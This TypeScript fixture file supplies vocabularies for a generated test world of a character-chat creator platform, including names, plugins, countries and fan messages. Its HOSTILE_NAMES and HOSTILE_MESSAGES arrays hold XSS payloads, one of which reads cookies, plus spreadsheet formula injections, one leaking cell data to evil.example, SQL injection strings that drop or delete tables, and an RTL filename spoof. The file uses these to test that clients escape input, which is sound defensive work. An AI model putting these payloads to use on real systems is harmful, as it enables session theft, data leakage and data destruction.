// Fixed vocabularies of the generated world, including the hostile fan texts clients must show as text.

export const CHARACTER_NAMES = [
  'Luna Vale', 'Kael the Wanderer', 'Professor Quill', 'Seraphine', 'Captain Mako', 'Iris Chen',
  'Old Man Tobias', 'Nyx', 'Dr. Elara Voss', 'Bram Ironfoot', 'Sunny', 'Whisper',
];

export const PLUGIN_NAMES = ['Dice Roller Pro', 'Memory Vault', 'Mood Lighting', 'Translator+', 'Inventory Tracker'];

export const STORY_TITLES = [
  "The Lighthouse Keeper's Daughter", 'Neon Requiem', 'Saltwind Academy', 'The Last Orchard',
];

export const NAME_PARTS_A = ['Amber', 'Silver', 'Quiet', 'Crimson', 'Hollow', 'Lucky', 'Stormy', 'Velvet', 'Iron', 'Paper'];
export const NAME_PARTS_B = ['Fox', 'Lantern', 'Knight', 'Oracle', 'Sailor', 'Witch', 'Robot', 'Garden', 'Comet', 'Bard'];

/** The creator's own character tags. The top hashtag of the audience is deliberately not one of them. */
export const OWN_TAGS = ['fantasy', 'romance', 'mystery', 'sci-fi', 'companion', 'adventure', 'horror', 'comedy'];
export const SURPRISE_HASHTAG = 'found-family';
export const OTHER_HASHTAGS = ['roleplay', 'cozy', 'ai-art', 'worldbuilding'];

export const PLUGIN_TAGS = ['utility', 'games', 'memory', 'immersion', 'language'];

export const SCENARIOS = [
  'Tavern meeting', 'Midnight confession', 'Rescue mission', 'Study session', 'Rainy café',
  'Space station', 'Haunted manor', 'Road trip', 'Royal ball', 'Detective office',
];

export const MODELS = ['gpt-4o', 'claude-sonnet-4', 'llama-3.1-70b', 'mistral-large', 'gemini-2.0-flash'];

export const CHAPTER_WORDS = [
  'Arrival', 'The Storm', 'Letters', 'The Keeper', 'Low Tide', 'Beacon', 'Homecoming', 'Ashes',
  'The Gate', 'Night Market',
];

export const MILESTONES = [
  ['first-light', 'First light'], ['the-secret', 'The secret revealed'], ['true-ending', 'True ending'],
  ['bad-ending', 'Bad ending'], ['hidden-room', 'Found the hidden room'],
] as const;

export const IDENTITIES = [
  ['detective', 'The Detective'], ['stranger', 'The Stranger'], ['heir', 'The Heir'], ['sailor', 'The Sailor'],
] as const;

/** Countries and their base share of active users (BR starts small and rises). */
export const COUNTRIES: readonly (readonly [string, number])[] = [
  ['US', 0.3], ['BR', 0.03], ['GB', 0.09], ['IN', 0.1], ['PH', 0.08], ['MX', 0.08],
  ['DE', 0.07], ['FR', 0.06], ['CA', 0.05], ['ES', 0.04], ['ID', 0.03], ['AR', 0.02],
];

export const ANNOUNCEMENT_TITLES = [
  'New scenario for Luna!', 'Kael gets a longer memory', 'Story update: chapter 4 rewritten',
  'Thank you for 1,000 followers', 'Plugin maintenance this weekend', 'A new character is coming',
  'Behind the scenes: writing Neon Requiem', 'Holiday special scenarios',
];

export const CAMPAIGN_PRIZES = ['Winter Writing Jam — 2nd place', 'Spring Character Contest — finalist', 'Community pick of the month'];
export const BOUNTY_TEXTS = ['Bounty: Portuguese localisation', 'Bounty: accessibility pass', 'Bounty: bug hunt'];
export const ADJUSTMENT_TEXTS = [
  'Correction: duplicated embed charge', 'Goodwill credit after outage', 'Chargeback on fan support', 'Rounding correction',
];

/** Names and messages no client may interpret: markup, formulas, quotes, control characters, RTL, emoji. */
export const HOSTILE_NAMES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'Robert"); DROP TABLE ledger;--',
  'O\'Brien "the quoted", Esq.',
  'محمد الأحمد',
  'שרה כהן',
  'Zoë 🦄✨👩🏽‍🚀',
  'two\nlines',
  '\u202Eevil.exe\u202C',
  '\ttabbed, name',
];

export const HOSTILE_MESSAGES = [
  'Love this! <b>bold</b> & "quotes" \'single\' </td></tr><script>alert("x")</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '=1+1',
  'line one\nline two\r\nline three\n\n— signed',
  'شكرا جزيلا على القصة الرائعة! ننتظر الفصل القادم',
  'תודה רבה על הדמות הנפלאה',
  '🔥🔥🔥 best character ever 👩‍🚀🏳️‍🌈 🇧🇷',
  'Mixed: Hello مرحبا שלום 你好 — done',
  '",\'; DELETE FROM support; --',
  '',
];

/** A fan letter of about 5 kB. */
export const LONG_MESSAGE = (() => {
  const sentence = 'I have been talking to your characters every night for months and I wanted to say thank you. ';
  let text = '';
  while (text.length < 5000) text += sentence;
  return `${text}Obrigado! ❤️`;
})();

export const FAN_NAMES = ['moonlit_reader', 'Ana P.', 'kaito', 'Jess', 'quietfox', 'Mateus', 'Priya', 'lantern_lady', 'Tom B.', 'Yuki'];
export const FAN_MESSAGES = [
  'Thank you for Luna, she made my week.',
  'Keep writing!',
  'For coffee ☕',
  'Chapter 3 made me cry.',
  'Obrigado pela história!',
  'Small tip, big thanks.',
];
